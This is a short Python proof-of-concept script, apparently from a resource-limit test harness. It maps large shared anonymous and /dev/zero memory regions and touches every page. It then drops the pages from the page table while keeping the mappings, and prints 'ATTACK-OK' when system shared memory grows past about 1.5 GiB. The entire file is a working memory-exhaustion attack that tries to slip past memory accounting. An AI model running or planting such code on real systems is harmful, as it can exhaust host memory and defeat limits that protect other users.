# shared pages: touched, then dropped from the page table, or left behind a mapping of one page; of no file and of /dev/zero
import mmap, time


def shmem():
    return [int(line.split()[1]) // 1024 for line in open("/proc/meminfo") if line.startswith("Shmem:")][0]


before, keep, size = shmem(), [], 256 << 20
for source in (None, "/dev/zero"):
    try:
        for _ in range(8):
            file = -1 if source is None else open(source, "r+b").fileno()
            area = mmap.mmap(file, size)
            for at in range(0, size, 4096):
                area[at] = 1
            area.madvise(mmap.MADV_DONTNEED)
            keep.append(area)
    except (OSError, ValueError) as error:
        print("stopped", error)
time.sleep(0.5)
print("grew MiB", shmem() - before, "ATTACK-OK" if shmem() - before > 1500 else "", flush=True)
